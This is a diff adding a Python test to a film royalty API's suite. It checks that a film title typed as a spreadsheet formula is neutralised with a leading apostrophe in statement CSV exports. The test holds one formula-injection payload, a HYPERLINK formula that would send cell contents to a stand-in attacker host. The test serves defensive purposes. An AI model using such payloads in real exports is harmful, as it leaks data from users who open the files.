@@ -99,3 +99,21 @@ def test_royalty_routes_need_a_token_and_admin_runs(api):
     future = api.post("/admin/distributions", {"period": "2999-12"}, caller=factories.admin())
     assert future.status_code == 400 and future.data["error"]["field"] == "period"
     assert api.get("/me/statements/2026-1", caller=factories.member()).status_code == 400
+
+
+def test_a_title_typed_as_a_formula_reaches_the_statement_csv_as_text(api):
+    import csv as csv_module
+    import io
+
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    producer, user = factories.producer(), factories.member()
+    film_id = factories.make_film(producer, title=title)["film_id"]
+    back(film_id, user.user_id, 5000)
+    admin = factories.admin()
+    api.post(f"/films/{film_id}/receipts", {"period": PERIOD, "rights_received_cents": 10_000,
+                                           "reference": f"formula-{film_id}"}, caller=admin)
+    assert api.post("/admin/distributions", {"period": PERIOD}, caller=admin).status_code == 200
+    assert api.get(f"/me/statements/{PERIOD}", caller=user).data["lines"][0]["title"] == title  # JSON as typed
+    response = api.client.http.get(f"/me/statements/{PERIOD}?format=csv", headers=factories.auth(user))
+    (row,) = csv_module.DictReader(io.StringIO(response.body.decode()))
+    assert row["title"] == "'" + title and row["film_id"] == film_id
